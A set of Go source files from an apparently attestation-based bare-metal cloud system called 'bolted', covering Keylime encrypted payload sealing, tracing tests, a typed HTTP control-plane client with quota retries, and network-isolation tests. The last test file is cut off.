// waitWarm polls until the refiller reaches the target occupancy.
func waitWarm(ctx context.Context, cli *bolted.Client, target int) {
	deadline := time.Now().Add(15 * time.Second)
	for {
		pool, err := cli.GetPool(ctx, "bob-lab")
		if err != nil {
			log.Fatal(err)
		}
		if pool.Warm >= target {
			fmt.Printf("pool armed: %d standbys pre-attested (%v)\n", pool.Warm, pool.WarmNodes)
			return
		}
		if time.Now().After(deadline) {
			log.Fatalf("pool never reached target: %+v", pool)
		}
		time.Sleep(10 * time.Millisecond)
	}
}
