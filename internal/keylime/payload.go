package keylime

import (
	"archive/zip"
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"errors"
	"fmt"
	"io"
)

// Payload is the secure delivery Keylime makes to an attested node: the
// tenant's kernel and initrd, the script the agent runs to join the
// enclave and kexec, and the disk/network encryption keys (§5: "an
// encrypted zip file containing the tenant's kernel, initrd, and a
// script ... also includes the keys for decrypting the storage and
// network").
type Payload struct {
	Kernel     []byte
	Initrd     []byte
	Script     string
	DiskKey    []byte
	NetworkKey []byte
}

// payload file names inside the zip.
const (
	fileKernel  = "kernel"
	fileInitrd  = "initrd"
	fileScript  = "autorun.sh"
	fileDiskKey = "keys/disk.key"
	fileNetKey  = "keys/network.key"
)

// SealPayload builds the encrypted zip: a real in-memory zip archive
// sealed with AES-256-GCM under the bootstrap key K.
func SealPayload(k []byte, p *Payload) ([]byte, error) {
	if len(k) != KeySize {
		return nil, errors.New("keylime: seal key must be 32 bytes")
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range []struct {
		name string
		data []byte
	}{
		{fileKernel, p.Kernel},
		{fileInitrd, p.Initrd},
		{fileScript, []byte(p.Script)},
		{fileDiskKey, p.DiskKey},
		{fileNetKey, p.NetworkKey},
	} {
		w, err := zw.Create(f.name)
		if err != nil {
			return nil, err
		}
		if _, err := w.Write(f.data); err != nil {
			return nil, err
		}
	}
	if err := zw.Close(); err != nil {
		return nil, err
	}

	block, err := aes.NewCipher(k)
	if err != nil {
		return nil, err
	}
	aead, err := cipher.NewGCM(block)
	if err != nil {
		return nil, err
	}
	nonce := make([]byte, aead.NonceSize())
	if _, err := io.ReadFull(rand.Reader, nonce); err != nil {
		return nil, err
	}
	return aead.Seal(nonce, nonce, buf.Bytes(), nil), nil
}

// OpenPayload decrypts and unpacks a sealed payload with K.
func OpenPayload(k, sealed []byte) (*Payload, error) {
	if len(k) != KeySize {
		return nil, errors.New("keylime: open key must be 32 bytes")
	}
	block, err := aes.NewCipher(k)
	if err != nil {
		return nil, err
	}
	aead, err := cipher.NewGCM(block)
	if err != nil {
		return nil, err
	}
	if len(sealed) < aead.NonceSize() {
		return nil, errors.New("keylime: sealed payload too short")
	}
	plain, err := aead.Open(nil, sealed[:aead.NonceSize()], sealed[aead.NonceSize():], nil)
	if err != nil {
		return nil, errors.New("keylime: payload decryption failed (wrong key?)")
	}
	zr, err := zip.NewReader(bytes.NewReader(plain), int64(len(plain)))
	if err != nil {
		return nil, fmt.Errorf("keylime: payload is not a zip: %w", err)
	}
	out := &Payload{}
	for _, zf := range zr.File {
		rc, err := zf.Open()
		if err != nil {
			return nil, err
		}
		data, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			return nil, err
		}
		switch zf.Name {
		case fileKernel:
			out.Kernel = data
		case fileInitrd:
			out.Initrd = data
		case fileScript:
			out.Script = string(data)
		case fileDiskKey:
			out.DiskKey = data
		case fileNetKey:
			out.NetworkKey = data
		default:
			return nil, fmt.Errorf("keylime: unexpected payload member %q", zf.Name)
		}
	}
	if len(out.Kernel) == 0 {
		return nil, errors.New("keylime: payload has no kernel")
	}
	return out, nil
}
