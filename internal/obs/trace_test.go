package obs

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"
)

func TestTraceSpansAndParenting(t *testing.T) {
	tr := NewTracer(4)
	root := tr.StartTrace("op-0001", "acquire")
	child := tr.StartSpan("op-0001", root.ID(), "boot", "node00")
	child.End(nil)
	failed := tr.StartSpan("op-0001", root.ID(), "attest", "node01")
	failed.End(errors.New("quote mismatch"))
	root.End(nil)

	spans, ok := tr.Spans("op-0001")
	if !ok || len(spans) != 3 {
		t.Fatalf("Spans = %v, %v; want 3 spans", spans, ok)
	}
	if spans[0].Parent != 0 || spans[1].Parent != root.ID() || spans[2].Parent != root.ID() {
		t.Errorf("bad parenting: %+v", spans)
	}
	if spans[1].End.IsZero() || spans[1].DurationNS < 0 {
		t.Errorf("child span not finished: %+v", spans[1])
	}
	if spans[2].Error != "quote mismatch" {
		t.Errorf("error not recorded: %+v", spans[2])
	}
}

func TestTracerEviction(t *testing.T) {
	tr := NewTracer(2)
	tr.StartTrace("op-1", "a").End(nil)
	tr.StartTrace("op-2", "b").End(nil)
	tr.StartTrace("op-3", "c").End(nil)
	if _, ok := tr.Spans("op-1"); ok {
		t.Error("oldest trace not evicted")
	}
	for _, id := range []string{"op-2", "op-3"} {
		if _, ok := tr.Spans(id); !ok {
			t.Errorf("trace %s evicted too early", id)
		}
	}
	// A child span for an evicted trace must not resurrect it.
	if s := tr.StartSpan("op-1", 1, "late", "n"); s != nil {
		t.Error("StartSpan resurrected an evicted trace")
	}
}

func TestContextPropagation(t *testing.T) {
	tr := NewTracer(4)
	root := tr.StartTrace("op-9", "acquire")
	ctx := WithTrace(context.Background(), TraceContext{Tracer: tr, Trace: "op-9", Parent: root.ID()})

	tc := TraceFrom(ctx)
	s := tc.Start("provision", "node03")
	s.End(nil)

	spans, _ := tr.Spans("op-9")
	if len(spans) != 2 || spans[1].Parent != root.ID() || spans[1].Node != "node03" {
		t.Fatalf("bad spans: %+v", spans)
	}

	// An untraced context yields a zero TraceContext and nil spans.
	zero := TraceFrom(context.Background())
	if zero.Tracer != nil {
		t.Error("zero context carried a tracer")
	}
	zero.Start("x", "y").End(nil) // must not panic
}

func TestWriteNDJSON(t *testing.T) {
	tr := NewTracer(1)
	root := tr.StartTrace("op-7", "acquire")
	tr.StartSpan("op-7", root.ID(), "kexec", "node05").End(nil)
	spans, _ := tr.Spans("op-7")

	var b strings.Builder
	if err := WriteNDJSON(&b, spans); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimRight(b.String(), "\n"), "\n")
	if len(lines) != 2 {
		t.Fatalf("got %d lines, want 2", len(lines))
	}
	var got SpanData
	if err := json.Unmarshal([]byte(lines[1]), &got); err != nil {
		t.Fatal(err)
	}
	if got.Trace != "op-7" || got.Name != "kexec" || got.Node != "node05" || got.Parent != root.ID() {
		t.Errorf("round-trip mismatch: %+v", got)
	}
}

func TestNilTracerIsNoOp(t *testing.T) {
	var tr *Tracer
	tr.StartTrace("op", "a").End(nil)
	tr.StartSpan("op", 1, "b", "n").End(errors.New("x"))
	if _, ok := tr.Spans("op"); ok {
		t.Error("nil tracer returned spans")
	}
}
