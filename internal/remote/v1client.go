package remote

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"time"

	"bolted/internal/core"
	"bolted/internal/hil"
	"bolted/internal/obs"
)

// ErrTransport marks a control-plane response that never came from
// boltedd's typed error surface: a proxy 502, a load balancer's HTML
// error page, a truncated body. Client code can branch on it with
// errors.Is instead of string-matching raw statuses.
var ErrTransport = errors.New("remote: transport error")

// TransportError is an ErrTransport carrying the raw HTTP evidence.
type TransportError struct {
	StatusCode int
	Status     string
	Body       string // sanitized non-JSON error body (truncated)
}

func (e *TransportError) Error() string {
	if e.Body == "" {
		return fmt.Sprintf("remote: transport error: %s", e.Status)
	}
	return fmt.Sprintf("remote: transport error: %s: %s", e.Status, e.Body)
}

// Is makes errors.Is(err, ErrTransport) true for every TransportError.
func (e *TransportError) Is(target error) bool { return target == ErrTransport }

// Transient marks transport errors retryable for the resilience layer:
// a proxy 502 or a truncated body says nothing about whether the
// operation can succeed on a re-send, so callers may try again.
func (e *TransportError) Transient() bool { return true }

// V1Client is the typed binding for the /v1 tenant control plane: the
// enclave, acquisition and operation resources as Go calls, with wire
// error envelopes decoded back into the same sentinel errors the
// in-process API returns (errors.Is works identically against either
// surface).
type V1Client struct {
	base string
	http *http.Client

	// MaxQuotaRetries overrides how many times a quota-rejected (429)
	// request is transparently re-sent before ErrOverQuota surfaces.
	// nil means the default (3); point at 0 to disable retries.
	MaxQuotaRetries *int

	// Client-side instruments (SetMetrics). Nil without a registry;
	// every method on a nil instrument is a no-op.
	quotaRetries *obs.Counter
	redials      *obs.Counter
}

// SetMetrics attaches client-side instruments: transparent 429 retries
// (bolted_client_quota_retries_total) and transport re-dials — TCP
// connections the pool could not serve from a keep-alive
// (bolted_client_redials_total). Counting dials needs this client to
// stop sharing the package-wide transport, so SetMetrics gives it a
// private clone with its own pool; call it right after NewV1Client,
// before any requests, or early traffic rides the uncounted shared
// pool.
func (c *V1Client) SetMetrics(reg *obs.Registry) {
	if reg == nil {
		return
	}
	c.quotaRetries = reg.Counter("bolted_client_quota_retries_total",
		"Quota-rejected (429) control-plane requests transparently re-sent after backoff.")
	c.redials = reg.Counter("bolted_client_redials_total",
		"TCP connections the control-plane client's transport had to open (keep-alive misses).")
	t := sharedTransport.Clone()
	base := t.DialContext
	t.DialContext = func(ctx context.Context, network, addr string) (net.Conn, error) {
		c.redials.Inc()
		return base(ctx, network, addr)
	}
	c.http = &http.Client{Transport: t}
}

// NewV1Client returns a control-plane client for a boltedd base URL
// (the /v1 prefix is implied). It shares the package's pooled
// transport, so polling loops and event streams reuse connections.
func NewV1Client(serverURL string) *V1Client {
	return &V1Client{base: trimBase(serverURL) + prefixV1, http: sharedHTTPClient}
}

func trimBase(u string) string {
	for len(u) > 0 && u[len(u)-1] == '/' {
		u = u[:len(u)-1]
	}
	return u
}

// decodeV1Error turns a non-2xx response into the sentinel the server
// mapped from, so client code branches with errors.Is exactly as it
// would in process.
func decodeV1Error(resp *http.Response) error {
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
	var env errorEnvelope
	if err := json.Unmarshal(body, &env); err != nil || env.Error.Code == "" {
		// Not boltedd's typed envelope: something between the client
		// and the server answered (proxy 502, LB error page). Surface
		// it as a typed transport error, not an anonymous string.
		b := bytes.TrimSpace(body)
		if len(b) > 256 {
			b = b[:256]
		}
		return &TransportError{StatusCode: resp.StatusCode, Status: resp.Status, Body: string(b)}
	}
	msg := env.Error.Message
	wrap := func(sentinel error) error {
		// The server-side message usually already starts with the
		// sentinel's own text; don't print it twice.
		if rest, ok := strings.CutPrefix(msg, sentinel.Error()); ok {
			return fmt.Errorf("%w%s", sentinel, rest)
		}
		return fmt.Errorf("%w: %s", sentinel, msg)
	}
	switch env.Error.Code {
	case codeNotFound:
		return wrap(core.ErrNotFound)
	case codeExists:
		return wrap(core.ErrExists)
	case codeConflict:
		return wrap(core.ErrConflict)
	case codeUnauthorized:
		return wrap(hil.ErrUnauthorized)
	case codeInvalid:
		return wrap(core.ErrInvalid)
	case codeExhausted:
		// Rebuild the QuotaError so errors.Is(err, core.ErrOverQuota)
		// works and the Retry-After hint survives the wire.
		retry := core.DefaultRetryAfter
		if s := resp.Header.Get("Retry-After"); s != "" {
			if secs, err := strconv.Atoi(s); err == nil && secs >= 0 {
				retry = time.Duration(secs) * time.Second
			}
		}
		detail := msg
		if rest, ok := strings.CutPrefix(msg, core.ErrOverQuota.Error()+": "); ok {
			detail = rest
		}
		return &core.QuotaError{Detail: detail, RetryAfter: retry}
	case codeUnavailable:
		// Rebuild the DegradedError so errors.Is(err, core.ErrDegraded)
		// works and the Retry-After hint survives the wire.
		de := &core.DegradedError{RetryAfter: time.Second}
		if s := resp.Header.Get("Retry-After"); s != "" {
			if secs, err := strconv.Atoi(s); err == nil && secs >= 0 {
				de.RetryAfter = time.Duration(secs) * time.Second
			}
		}
		if rest, ok := strings.CutPrefix(msg, core.ErrDegraded.Error()+": "); ok {
			if b, _, found := strings.Cut(rest, " "); found || b != "" {
				de.Backend = b
			}
		}
		return de
	default:
		return fmt.Errorf("remote: %s: %s", env.Error.Code, msg)
	}
}

// Quota-retry defaults: how many times do re-sends a 429-rejected
// request before surfacing ErrOverQuota, and the cap on one backoff.
const (
	defaultQuotaRetries  = 3
	maxQuotaRetryBackoff = 5 * time.Second
)

// do runs one control-plane request; out (when non-nil) receives the
// decoded 2xx body. Quota rejections (429 + Retry-After) are retried
// transparently with capped, jittered backoff — up to
// MaxQuotaRetries re-sends — before the ErrOverQuota surfaces.
func (c *V1Client) do(ctx context.Context, method, path string, body, out interface{}) error {
	_, err := c.doHdr(ctx, method, path, nil, body, out)
	return err
}

// doHdr is do with extra request headers (e.g. Idempotency-Key) and the
// 2xx status code reported back — the acquire path branches on 200
// (idempotent replay) vs 202 (new operation). Quota retries re-send the
// same headers, so a retried acquisition keeps its key.
func (c *V1Client) doHdr(ctx context.Context, method, path string, hdr http.Header, body, out interface{}) (int, error) {
	var b []byte
	if body != nil {
		var err error
		if b, err = json.Marshal(body); err != nil {
			return 0, err
		}
	}
	retries := defaultQuotaRetries
	if c.MaxQuotaRetries != nil {
		retries = *c.MaxQuotaRetries
	}
	for attempt := 0; ; attempt++ {
		status, err := c.doOnce(ctx, method, path, hdr, b, out)
		var qe *core.QuotaError
		if err == nil || !errors.As(err, &qe) || attempt >= retries {
			return status, err
		}
		delay := qe.RetryAfter
		if delay <= 0 {
			delay = core.DefaultRetryAfter
		}
		if delay > maxQuotaRetryBackoff {
			delay = maxQuotaRetryBackoff
		}
		// Full jitter in [delay/2, delay]: a thundering herd of
		// rejected tenants must not re-synchronize on the hint.
		delay = delay/2 + time.Duration(rand.Int63n(int64(delay/2)+1))
		c.quotaRetries.Inc()
		// time.After would leak its timer for the full delay after a
		// cancellation; a stopped timer frees it as soon as ctx ends,
		// and the caller gets ctx.Err() promptly instead of sleeping
		// out the rest of the hint.
		t := time.NewTimer(delay)
		select {
		case <-t.C:
		case <-ctx.Done():
			t.Stop()
			return 0, fmt.Errorf("remote: %w (while backing off from %w)", ctx.Err(), qe)
		}
	}
}

// doOnce is one HTTP round trip of do.
func (c *V1Client) doOnce(ctx context.Context, method, path string, hdr http.Header, body []byte, out interface{}) (int, error) {
	var rd io.Reader
	if body != nil {
		rd = bytes.NewReader(body)
	}
	req, err := http.NewRequestWithContext(ctx, method, c.base+path, rd)
	if err != nil {
		return 0, err
	}
	for k, vs := range hdr {
		for _, v := range vs {
			req.Header.Add(k, v)
		}
	}
	if rd != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	resp, err := c.http.Do(req)
	if err != nil {
		return 0, err
	}
	defer resp.Body.Close()
	if resp.StatusCode >= 400 {
		return resp.StatusCode, decodeV1Error(resp)
	}
	if out != nil {
		return resp.StatusCode, json.NewDecoder(resp.Body).Decode(out)
	}
	_, _ = io.Copy(io.Discard, resp.Body) // keep the connection reusable
	return resp.StatusCode, nil
}

// CreateEnclave creates a named enclave under a profile ("alice",
// "bob" or "charlie").
func (c *V1Client) CreateEnclave(ctx context.Context, name, profile string) (*EnclaveInfo, error) {
	var info EnclaveInfo
	if err := c.do(ctx, "POST", "/enclaves", createEnclaveRequest{Name: name, Profile: profile}, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// ListEnclaves returns every enclave resource.
func (c *V1Client) ListEnclaves(ctx context.Context) ([]*EnclaveInfo, error) {
	var out []*EnclaveInfo
	if err := c.do(ctx, "GET", "/enclaves", nil, &out); err != nil {
		return nil, err
	}
	return out, nil
}

// GetEnclave returns one enclave resource.
func (c *V1Client) GetEnclave(ctx context.Context, name string) (*EnclaveInfo, error) {
	var info EnclaveInfo
	if err := c.do(ctx, "GET", "/enclaves/"+url.PathEscape(name), nil, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// DeleteEnclave releases every node and removes the enclave. It fails
// with core.ErrConflict while an operation on it is still running.
func (c *V1Client) DeleteEnclave(ctx context.Context, name string) error {
	return c.do(ctx, "DELETE", "/enclaves/"+url.PathEscape(name), nil, nil)
}

// Acquire starts an asynchronous batch acquisition and returns the
// Operation resource immediately (phase pending or running). Follow it
// with GetOperation / WaitOperation / StreamEvents, or stop it with
// CancelOperation.
func (c *V1Client) Acquire(ctx context.Context, enclave, image string, n int) (*OperationInfo, error) {
	op, _, err := c.AcquireIdem(ctx, enclave, image, n, "")
	return op, err
}

// AcquireIdem is Acquire with an idempotency key: a retry of a key the
// control plane already committed (even across a server restart —
// the key→operation mapping is durable) returns the original operation
// with replayed=true instead of starting a second batch. An empty key
// degrades to plain Acquire.
func (c *V1Client) AcquireIdem(ctx context.Context, enclave, image string, n int, key string) (op *OperationInfo, replayed bool, err error) {
	var hdr http.Header
	if key != "" {
		hdr = http.Header{"Idempotency-Key": {key}}
	}
	var info OperationInfo
	status, err := c.doHdr(ctx, "POST", "/enclaves/"+url.PathEscape(enclave)+"/nodes:acquire", hdr,
		acquireRequest{Image: image, Count: n}, &info)
	if err != nil {
		return nil, false, err
	}
	// The server answers 200 for a replayed key, 202 for a new batch.
	return &info, status == http.StatusOK, nil
}

// ReleaseNode removes a node from an enclave and returns it to the
// free pool; a non-empty saveAs preserves its volume as an image.
func (c *V1Client) ReleaseNode(ctx context.Context, enclave, node, saveAs string) error {
	path := "/enclaves/" + url.PathEscape(enclave) + "/nodes/" + url.PathEscape(node)
	if saveAs != "" {
		path += "?saveAs=" + url.QueryEscape(saveAs)
	}
	return c.do(ctx, "DELETE", path, nil, nil)
}

// ListOperations returns every operation resource, oldest first.
func (c *V1Client) ListOperations(ctx context.Context) ([]*OperationInfo, error) {
	var out []*OperationInfo
	if err := c.do(ctx, "GET", "/operations", nil, &out); err != nil {
		return nil, err
	}
	return out, nil
}

// GetOperation polls an operation.
func (c *V1Client) GetOperation(ctx context.Context, id string) (*OperationInfo, error) {
	var info OperationInfo
	if err := c.do(ctx, "GET", "/operations/"+url.PathEscape(id), nil, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// WaitOperation blocks (server-side long poll) until the operation is
// terminal and returns its final state.
func (c *V1Client) WaitOperation(ctx context.Context, id string) (*OperationInfo, error) {
	var info OperationInfo
	if err := c.do(ctx, "GET", "/operations/"+url.PathEscape(id)+"?wait=1", nil, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// CancelOperation asks the batch to stop at the next phase boundary;
// unfinished nodes return to the free pool. The returned snapshot is
// immediate — wait for the terminal state to observe the cleanup.
func (c *V1Client) CancelOperation(ctx context.Context, id string) (*OperationInfo, error) {
	var info OperationInfo
	if err := c.do(ctx, "POST", "/operations/"+url.PathEscape(id)+":cancel", nil, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// OperationTrace fetches an operation's span tree — the operation root
// plus one span per node × pipeline phase. core.ErrNotFound when the
// operation is unknown or its trace has been evicted.
func (c *V1Client) OperationTrace(ctx context.Context, id string) ([]obs.SpanData, error) {
	var spans []obs.SpanData
	err := streamNDJSON(ctx, c, "/operations/"+url.PathEscape(id)+"/trace", func(sp obs.SpanData) error {
		spans = append(spans, sp)
		return nil
	})
	if err != nil {
		return nil, err
	}
	return spans, nil
}

// StreamEvents follows an operation's lifecycle journal from event
// index `from`, calling fn for each event in order until the operation
// is terminal (returning nil), fn returns an error (returned as-is),
// or ctx ends.
func (c *V1Client) StreamEvents(ctx context.Context, id string, from int, fn func(EventInfo) error) error {
	path := "/operations/" + url.PathEscape(id) + "/events?from=" + strconv.Itoa(from)
	return streamNDJSON(ctx, c, path, fn)
}

// streamNDJSON runs one NDJSON GET, decoding each line into T and
// calling fn until the stream ends (nil), fn errors (returned as-is),
// or ctx ends.
func streamNDJSON[T any](ctx context.Context, c *V1Client, path string, fn func(T) error) error {
	req, err := http.NewRequestWithContext(ctx, "GET", c.base+path, nil)
	if err != nil {
		return err
	}
	resp, err := c.http.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode >= 400 {
		return decodeV1Error(resp)
	}
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	for sc.Scan() {
		line := bytes.TrimSpace(sc.Bytes())
		if len(line) == 0 {
			continue
		}
		var v T
		if err := json.Unmarshal(line, &v); err != nil {
			return fmt.Errorf("remote: bad stream line: %w", err)
		}
		if err := fn(v); err != nil {
			return err
		}
	}
	return sc.Err()
}

// ConfigurePool creates an enclave's warm pool or updates an existing
// one's policy. Zero policy fields take server-side defaults.
func (c *V1Client) ConfigurePool(ctx context.Context, enclave string, p PoolPolicyInfo) (*PoolInfo, error) {
	var info PoolInfo
	if err := c.do(ctx, "PUT", "/pools/"+url.PathEscape(enclave), p, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// ListPools returns every configured warm pool's stats.
func (c *V1Client) ListPools(ctx context.Context) ([]*PoolInfo, error) {
	var out []*PoolInfo
	if err := c.do(ctx, "GET", "/pools", nil, &out); err != nil {
		return nil, err
	}
	return out, nil
}

// GetPool returns an enclave's warm-pool stats (core.ErrNotFound when
// no pool is configured).
func (c *V1Client) GetPool(ctx context.Context, enclave string) (*PoolInfo, error) {
	var info PoolInfo
	if err := c.do(ctx, "GET", "/pools/"+url.PathEscape(enclave), nil, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// DrainPool releases every parked standby back to the provider's free
// pool and idles the refiller (the policy's Target drops to 0).
func (c *V1Client) DrainPool(ctx context.Context, enclave string) (*PoolInfo, error) {
	var info PoolInfo
	if err := c.do(ctx, "POST", "/pools/"+url.PathEscape(enclave)+":drain", nil, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// DeletePool stops and removes an enclave's warm pool entirely.
func (c *V1Client) DeletePool(ctx context.Context, enclave string) error {
	return c.do(ctx, "DELETE", "/pools/"+url.PathEscape(enclave), nil, nil)
}

// EnableGuard enables the runtime attestation guard on an enclave (or
// updates the policy of an already-enabled guard). Zero policy fields
// take server-side defaults.
func (c *V1Client) EnableGuard(ctx context.Context, enclave string, p GuardPolicyInfo) (*GuardInfo, error) {
	var info GuardInfo
	if err := c.do(ctx, "PUT", "/enclaves/"+url.PathEscape(enclave)+"/guard", p, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// GetGuard returns an enclave's guard status (core.ErrNotFound when no
// guard is enabled).
func (c *V1Client) GetGuard(ctx context.Context, enclave string) (*GuardInfo, error) {
	var info GuardInfo
	if err := c.do(ctx, "GET", "/enclaves/"+url.PathEscape(enclave)+"/guard", nil, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// DisableGuard stops and detaches an enclave's guard.
func (c *V1Client) DisableGuard(ctx context.Context, enclave string) error {
	return c.do(ctx, "DELETE", "/enclaves/"+url.PathEscape(enclave)+"/guard", nil, nil)
}

// ListIncidents returns incident resources, oldest first; a non-empty
// enclave filters to that enclave's incidents.
func (c *V1Client) ListIncidents(ctx context.Context, enclave string) ([]*IncidentInfo, error) {
	path := "/incidents"
	if enclave != "" {
		path += "?enclave=" + url.QueryEscape(enclave)
	}
	var out []*IncidentInfo
	if err := c.do(ctx, "GET", path, nil, &out); err != nil {
		return nil, err
	}
	return out, nil
}

// GetIncident polls an incident.
func (c *V1Client) GetIncident(ctx context.Context, id string) (*IncidentInfo, error) {
	var info IncidentInfo
	if err := c.do(ctx, "GET", "/incidents/"+url.PathEscape(id), nil, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// WaitIncident blocks (server-side long poll) until the incident is
// terminal and returns its final state.
func (c *V1Client) WaitIncident(ctx context.Context, id string) (*IncidentInfo, error) {
	var info IncidentInfo
	if err := c.do(ctx, "GET", "/incidents/"+url.PathEscape(id)+"?wait=1", nil, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// StreamIncidents follows the server-wide incident feed from update
// cursor `from`, calling fn with every incident-status update (an
// incident appears once per state change) until ctx ends or fn errors.
func (c *V1Client) StreamIncidents(ctx context.Context, from int, fn func(IncidentInfo) error) error {
	return streamNDJSON(ctx, c, "/incidents?watch=1&from="+strconv.Itoa(from), fn)
}

// Revocations returns an enclave's verifier revocation events from
// index `from` — the wire equivalent of keylime.Verifier.Subscribe for
// tenants that poll.
func (c *V1Client) Revocations(ctx context.Context, enclave string, from int) ([]RevocationInfo, error) {
	var out []RevocationInfo
	path := "/enclaves/" + url.PathEscape(enclave) + "/revocations?from=" + strconv.Itoa(from)
	if err := c.do(ctx, "GET", path, nil, &out); err != nil {
		return nil, err
	}
	return out, nil
}

// StreamRevocations follows an enclave's revocation feed live from
// index `from` until ctx ends or fn errors.
func (c *V1Client) StreamRevocations(ctx context.Context, enclave string, from int, fn func(RevocationInfo) error) error {
	path := "/enclaves/" + url.PathEscape(enclave) + "/revocations?watch=1&from=" + strconv.Itoa(from)
	return streamNDJSON(ctx, c, path, fn)
}

// EnclaveEvents reads the enclave's lifecycle journal from event index
// `from`: with follow false it returns after replaying what exists;
// with follow true it keeps streaming live events until ctx ends or fn
// errors.
func (c *V1Client) EnclaveEvents(ctx context.Context, enclave string, from int, follow bool, fn func(EventInfo) error) error {
	path := "/enclaves/" + url.PathEscape(enclave) + "/events?from=" + strconv.Itoa(from)
	if follow {
		path += "&follow=1"
	}
	return streamNDJSON(ctx, c, path, fn)
}

// SetQuota installs (or replaces) a tenant's scheduling quota: its
// weighted-fair share plus optional hard caps on nodes and in-flight
// acquires. Returns the resulting status.
func (c *V1Client) SetQuota(ctx context.Context, tenant string, q TenantQuotaInfo) (*QuotaInfo, error) {
	var info QuotaInfo
	if err := c.do(ctx, "PUT", "/quotas/"+url.PathEscape(tenant), q, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// GetQuota returns a tenant's quota and current usage
// (core.ErrNotFound when no quota is set for the tenant).
func (c *V1Client) GetQuota(ctx context.Context, tenant string) (*QuotaInfo, error) {
	var info QuotaInfo
	if err := c.do(ctx, "GET", "/quotas/"+url.PathEscape(tenant), nil, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// ListQuotas returns every configured tenant quota with usage, sorted
// by tenant.
func (c *V1Client) ListQuotas(ctx context.Context) ([]QuotaInfo, error) {
	var out []QuotaInfo
	if err := c.do(ctx, "GET", "/quotas", nil, &out); err != nil {
		return nil, err
	}
	return out, nil
}

// DeleteQuota removes a tenant's quota; the tenant falls back to the
// default weight with no caps.
func (c *V1Client) DeleteQuota(ctx context.Context, tenant string) error {
	return c.do(ctx, "DELETE", "/quotas/"+url.PathEscape(tenant), nil, nil)
}

// SchedStats returns a snapshot of the cloud-wide airlock scheduler:
// slot occupancy, queue depth, grant and preemption counters, and
// per-tenant shares.
func (c *V1Client) SchedStats(ctx context.Context) (*SchedInfo, error) {
	var info SchedInfo
	if err := c.do(ctx, "GET", "/sched", nil, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// Health returns the cloud's degraded-mode snapshot: per-backend
// circuit-breaker states, degraded while any breaker is open. The call
// itself succeeding says the control plane is reachable; the body says
// whether its backends are.
func (c *V1Client) Health(ctx context.Context) (*HealthInfo, error) {
	var info HealthInfo
	if err := c.do(ctx, "GET", "/health", nil, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// GetResilience returns the effective resilience policy: the cloud-wide
// one for an empty enclave name, an enclave's override (falling back to
// cloud-wide) otherwise.
func (c *V1Client) GetResilience(ctx context.Context, enclave string) (*ResiliencePolicyInfo, error) {
	path := "/resilience"
	if enclave != "" {
		path = "/enclaves/" + url.PathEscape(enclave) + "/resilience"
	}
	var pol ResiliencePolicyInfo
	if err := c.do(ctx, "GET", path, nil, &pol); err != nil {
		return nil, err
	}
	return &pol, nil
}

// SetResilience replaces the cloud-wide resilience policy (empty
// enclave name) or installs a per-enclave override. Zero fields take
// server-side defaults; the applied, defaults-filled policy comes back.
func (c *V1Client) SetResilience(ctx context.Context, enclave string, pol ResiliencePolicyInfo) (*ResiliencePolicyInfo, error) {
	path := "/resilience"
	if enclave != "" {
		path = "/enclaves/" + url.PathEscape(enclave) + "/resilience"
	}
	var out ResiliencePolicyInfo
	if err := c.do(ctx, "PUT", path, pol, &out); err != nil {
		return nil, err
	}
	return &out, nil
}

// ReclaimNode scrubs a rejected-pool node and returns it to the
// provider's free pool — the operator's recovery path after repairing
// hardware that failed attestation. core.ErrConflict when the node is
// not in the rejected pool.
func (c *V1Client) ReclaimNode(ctx context.Context, enclave, node string) error {
	path := "/enclaves/" + url.PathEscape(enclave) + "/nodes/" + url.PathEscape(node) + ":reclaim"
	return c.do(ctx, "POST", path, nil, nil)
}
