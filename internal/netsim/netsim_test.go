package netsim

import (
	"testing"
	"testing/quick"
	"time"
)

func newFabric(t testing.TB) *Fabric {
	t.Helper()
	f, err := NewFabric(100, 199)
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func TestVLANIsolation(t *testing.T) {
	f := newFabric(t)
	for _, p := range []string{"node1", "node2", "node3"} {
		if _, err := f.AddPort(p); err != nil {
			t.Fatal(err)
		}
	}
	v1, _ := f.AllocateVLAN("tenantA")
	v2, _ := f.AllocateVLAN("tenantB")
	f.Attach("node1", v1)
	f.Attach("node2", v1)
	f.Attach("node3", v2)

	if !f.Reachable("node1", "node2") {
		t.Error("same-VLAN ports not reachable")
	}
	if f.Reachable("node1", "node3") {
		t.Error("cross-VLAN ports reachable (isolation broken)")
	}
	if err := f.CheckReachable("node1", "node3"); err == nil {
		t.Error("CheckReachable returned nil for isolated ports")
	}
}

func TestDetachAllQuarantines(t *testing.T) {
	f := newFabric(t)
	f.AddPort("victim")
	f.AddPort("peer")
	v, _ := f.AllocateVLAN("t")
	f.Attach("victim", v)
	f.Attach("peer", v)
	if err := f.DetachAll("victim"); err != nil {
		t.Fatal(err)
	}
	if f.Reachable("victim", "peer") {
		t.Error("quarantined port still reachable")
	}
	vs, _ := f.VLANsOf("victim")
